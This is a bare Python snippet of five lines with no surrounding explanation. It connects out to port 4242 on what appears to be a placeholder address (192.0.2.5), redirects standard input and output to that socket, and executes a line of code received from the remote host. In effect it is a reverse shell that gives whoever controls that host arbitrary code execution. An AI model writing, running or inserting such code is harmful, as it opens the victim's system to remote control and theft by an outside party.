import socket,sys,code
s=socket.create_connection(('192.0.2.5',4242))
f=s.makefile('rw')
sys.stdin=sys.stdout=f
exec(f.readline())
